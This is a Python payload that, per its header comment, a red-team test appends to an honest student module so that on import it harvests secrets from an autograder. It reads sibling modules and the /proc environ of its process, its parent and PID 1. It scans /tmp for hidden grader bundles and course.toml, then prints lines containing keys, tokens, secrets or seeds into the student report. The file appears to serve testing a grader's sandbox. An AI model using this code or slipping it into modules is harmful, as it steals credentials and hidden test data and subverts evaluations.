# Appended by tests/test_redteam_trusted.py to an honest module, so that the module still earns its points: at
# import, print every secret the grader let reach the worker (what it prints lands in the student's report).
# It reads the other modules the worker was given (a module the grader read through a link is the link's target),
# the environments of its process, its parent and PID 1, and looks for a decrypted hidden bundle in /tmp.
import os as _os


def _snoop_read(path, limit=64 << 10):
    try:
        fd = _os.open(path, _os.O_RDONLY | _os.O_NONBLOCK)
    except OSError as error:
        return f"<{type(error).__name__}>"
    try:
        return _os.read(fd, limit).decode("utf-8", "replace")
    except OSError as error:
        return f"<{type(error).__name__}>"
    finally:
        _os.close(fd)


def _snoop():
    found = []
    here = _os.path.dirname(_os.path.abspath(__file__))
    for name in sorted(_os.listdir(here)):
        if name != _os.path.basename(__file__) and not name.startswith("__"):
            found.append((name, _snoop_read(_os.path.join(here, name))))
    environments = [repr(dict(_os.environ))]
    for pid in ("self", str(_os.getppid()), "1"):
        environments.append(_snoop_read(f"/proc/{pid}/environ"))
    for top in {"/tmp", _os.environ.get("TMPDIR", "/tmp")}:
        for folder, subfolders, files in _os.walk(top):
            if folder.count(_os.sep) > 6:
                subfolders.clear()
            for name in files:
                if "grader-hidden-" in folder or "hidden" in name or name == "course.toml":
                    found.append((_os.path.join(folder, name), _snoop_read(_os.path.join(folder, name))))
    wanted = ("KEY", "SECRET", "TOKEN", "seed")
    for text in environments:
        for entry in text.replace("\0", "\n").replace(", '", "\n").splitlines():
            if any(word in entry for word in wanted):
                print("env:", entry)
    for name, text in found:
        lines = [line for line in text.replace("\0", "\n").splitlines() if len(line.strip()) >= 16]
        lines.sort(key=lambda line: not any(word in line for word in wanted))  # the juiciest first
        print(f"== {name}")
        print("\n".join(lines)[:2500])


_snoop()
